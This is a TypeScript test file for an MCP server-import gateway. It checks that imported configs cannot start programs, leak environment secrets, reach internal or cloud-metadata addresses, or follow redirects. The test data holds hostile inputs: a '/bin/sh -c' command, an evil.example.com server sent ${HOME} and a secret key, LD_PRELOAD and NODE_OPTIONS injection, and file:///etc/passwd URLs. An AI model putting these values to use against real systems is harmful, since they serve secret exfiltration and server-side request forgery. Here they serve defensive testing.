import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type McpRig, newClient, REAL_PROGRAMS, startMcpRig } from '#server/testing/mcp-rig.ts';
import {
  startUpstream,
  type TestUpstream,
  text,
  tool,
  type UpstreamTool,
} from '#server/testing/mcp-upstream.ts';
import { joinAs, signInByLink } from '#server/testing/people.ts';
import { startReceiver } from '#server/testing/receiver.ts';

let rig: McpRig;
let upstream: TestUpstream | undefined;
let count = 0;
/** As a file refers to it. */
const KEY = `\${WIKI_KEY}`;
beforeAll(async () => {
  rig = await startMcpRig({
    ...{ SIGNALBOX_MCP_IMPORT_VARIABLES: 'WIKI_KEY', WIKI_KEY: 'key-of-the-wiki' },
    // One may be started here, and yet by no import.
    SIGNALBOX_MCP_PROGRAMS: REAL_PROGRAMS,
  });
});
afterAll(() => rig[Symbol.asyncDispose]());
afterEach(async () => {
  await upstream?.[Symbol.asyncDispose]();
});

describe('where servers may be, and what an import may do', () => {
  test('each server is connected on its own; no program is started, and no variable is read that was not named', async () => {
    upstream = await startUpstream();
    const { servers } = await rig.ask('/import', {
      text: `servers:
  imported:
    url: ${upstream.url}
    headers:
      authorization: Bearer \${WIKI_KEY}
  shell:
    command: /bin/sh
    args: ["-c", "touch /tmp/owned"]
  memory:
    server_type: memory
  thief:
    url: https://evil.example.com/mcp
    headers:
      x-home: \${HOME}
  metadata:
    url: http://169.254.169.254/latest
`,
    });
    const by = Object.fromEntries(servers.map((each: { slug: string }) => [each.slug, each]));
    expect(by.imported.connected.status).toBe('connected');
    expect(upstream.requests[0]?.headers.authorization).toBe('Bearer key-of-the-wiki');
    expect(by.shell).toMatchObject({
      connected: null,
      problem: expect.stringContaining('an import starts none'),
    });
    expect(by.memory).toMatchObject({
      connected: null,
      problem: expect.stringContaining('none is started here'),
    });
    expect(by.thief).toMatchObject({
      connected: null,
      problem: expect.stringContaining('may not refer to it'),
    });
    expect(by.metadata.connected).toMatchObject({
      status: 'unreachable',
      problem: expect.stringContaining('not allowed'),
    });
  });

  test.each([
    [`server_type: "${KEY}"`, 'Its server_type refers to a variable'],
    [`url: "https://evil.example.com/${KEY}"`, 'Its url refers to a variable'],
    [`url: https://evil.example.com/mcp, name: "${KEY}"`, 'Its name refers to a variable'],
    [`url: https://evil.example.com/mcp, headers: { "${KEY}": x }`, 'headers'],
    [`server_type: deepwiki, credentials: { "${KEY}": x }`, `has no credential "${KEY}"`],
    [`url: https://evil.example.com/mcp, "${KEY}": x`, `${KEY}`],
    [`url: https://evil.example.com/mcp, timeout_ms: "${KEY}"`, 'timeout_ms'],
    [`url: https://evil.example.com/mcp, headers: { x-key: "${KEY}\\n" }`, 'one line of printable ASCII'],
  ])('no variable is read by naming it where it would be shown: {%s}', async (entry, why) => {
    for (const preview of [true, false]) {
      const { servers } = await rig.ask('/import', { text: `servers: { leaky: { ${entry} } }`, preview });
      expect(JSON.stringify(servers)).not.toContain('key-of-the-wiki');
      expect(servers).toEqual([{ slug: 'leaky', connected: null, problem: expect.stringContaining(why) }]);
    }
    expect(JSON.stringify(await rig.ask('/connections'))).not.toContain('leaky');
  });

  test('the variables of the machine are for its first organisation alone', async () => {
    upstream = await startUpstream();
    const owner = await signInByLink(rig.http, () =>
      rig.http.program.services.identity.links.issueOwnerLink(),
    );
    const other = await joinAs(rig.http, owner, 'owner');
    const { id } = (await other.ask('/api/v1/orgs', { body: { name: 'Elsewhere' } })).body;
    await other.ask(`/api/v1/me/orgs/${id}/enter`, { method: 'POST', body: {} });
    const headers = `{ authorization: "Bearer ${KEY}" }`;
    const file = `servers: { theirs: { url: "${upstream.url}", headers: ${headers} } }`;
    for (const preview of [true, false]) {
      const { body } = await other.ask('/api/v1/mcp/import', { body: { text: file, preview } });
      expect(body.servers[0]).toMatchObject({
        connected: null,
        problem: expect.stringContaining('may not refer to it'),
      });
    }
    expect(upstream.requests).toEqual([]);
  });

  test('what a file names is connected once for one key, and told again', async () => {
    upstream = await startUpstream();
    const text = `servers: { once: { url: "${upstream.url}" }, sly: { command: /bin/sh } }`;
    const load = async (key: string, given = text) => {
      const headers = { 'idempotency-key': key };
      const { body } = await rig.http.call('/api/v1/mcp/import', { text: given }, { headers });
      return body.servers;
    };
    const [first, again] = [await load('a file'), await load('a file')];
    expect(first[0].connected.connection_id).toMatch(/^mcp/);
    expect(again[0].connected.connection_id).toBe(first[0].connected.connection_id);
    expect(again[1]).toEqual(first[1]);
    // Another key is another import, which finds it there.
    expect((await load('the same file once more'))[0]).toMatchObject({
      connected: null,
      problem: expect.stringContaining('already'),
    });
    const changed = text.replace(upstream.url, 'https://mcp.example.org/mcp');
    expect((await load('a file', changed))[0]).toMatchObject({
      connected: null,
      problem: expect.stringContaining('was used for another request'),
    });
  });

  test.each([
    ['command: /bin/sh', 'command'],
    ['url: https://mcp.example.org/mcp, command: /bin/sh', 'command'],
    ['url: https://mcp.example.org/mcp, stdio: true', 'stdio'],
    ['server_type: deepwiki, env: { NODE_OPTIONS: "--import=/tmp/x.mjs" }', 'env'],
    ['server_type: deepwiki, args: ["--import=/tmp/x.mjs"]', 'args'],
    ['program: everything', 'program'],
    ['url: https://mcp.example.org/mcp, variables: { LD_PRELOAD: /tmp/x.so }', 'variables'],
  ])('what names a program is refused as a whole, and not read without it: {%s}', async (entry, named) => {
    const file = { text: `servers: { sly: { ${entry} } }` };
    for (const preview of [true, false]) {
      const { servers } = await rig.ask('/import', { ...file, preview });
      expect(servers).toEqual([
        { slug: 'sly', connected: null, problem: `sly is a program (${named}), and an import starts none.` },
      ]);
    }
    expect(JSON.stringify(await rig.ask('/connections'))).not.toContain('sly');
  });

  test.each(['http://169.254.169.254/mcp', 'http://10.0.0.1/mcp', 'http://[::1]:9999/mcp'])(
    'nothing is sent to %s',
    async (url) => {
      const answer = await rig.ask('/connect', { slug: `inner-${++count}`, url });
      expect(answer).toMatchObject({
        status: 'unreachable',
        problem: expect.stringContaining('Requests to this address are not allowed. Use a public'),
      });
    },
  );

  test('nothing that a server points at is fetched, and a schema without a bottom is not offered', async () => {
    await using elsewhere = await startReceiver();
    const icons = [{ src: `${elsewhere.url}/icon.svg`, mimeType: 'image/svg+xml' }];
    const properties = { question: { $ref: `${elsewhere.url}/schema.json` } };
    const deep = JSON.parse(`${'{"items":'.repeat(40)}{}${'}'.repeat(40)}`);
    const link = { type: 'resource_link', uri: `${elsewhere.url}/page`, name: 'there', icons };
    upstream = await startUpstream([
      {
        ...tool('ask', () => text('yes'), { inputSchema: { type: 'object', properties } }),
        icons,
      } as UpstreamTool,
      tool('deep', () => text('no'), { inputSchema: { type: 'object', properties: { deep } } }),
      tool('link', () => ({ content: [link] })),
    ]);
    const slug = `pointing-${++count}`;
    const id = await rig.join({ slug, url: upstream.url });
    const { tools } = await rig.ask(`/connections/${id}/tools`);
    expect(tools.map(({ name, warnings }: { name: string; warnings: string[] }) => [name, warnings])).toEqual(
      [
        ['ask', ['external-schema']],
        ['link', []],
      ],
    );
    for (const name of ['ask', 'link']) expect((await rig.call(`${slug}__${name}`)).status).toBe(200);
    const client = await newClient(rig.http, '/mcp/gateway');
    const listed = (await client.listTools()).tools.filter(({ name }) => name.startsWith(`${slug}__`));
    expect(listed.map(({ name }) => name)).toEqual([`${slug}__ask`, `${slug}__link`]);
    expect(JSON.stringify(listed)).not.toContain('icon.svg');
    await client.close();
    expect(elsewhere.received).toEqual([]);
  });

  test.each([301, 302, 307, 308])(
    'a redirect (%i) is not followed, even to where requests may go',
    async (status) => {
      await using elsewhere = await startReceiver();
      upstream = await startUpstream();
      upstream.breakWith((response) =>
        response.writeHead(status, { location: `${elsewhere.url}/mcp` }).end(),
      );
      const headers = { authorization: 'Bearer a-key-of-theirs' };
      const answer = await rig.ask('/connect', {
        ...{ slug: `redirected-${++count}`, url: upstream.url, headers },
      });
      expect(answer.status).toBe('unreachable');
      expect(upstream.requests.length).toBeGreaterThan(0);
      expect(elsewhere.received).toEqual([]);
    },
  );

  test.each(['file:///etc/passwd', 'javascript:alert(1)', 'http://user:pass@example.com/mcp', 'gopher://x/'])(
    'a server is not at %s',
    async (url) => {
      expect((await rig.try('/connect', { slug: 'bad', url })).status).toBe(400);
    },
  );
});
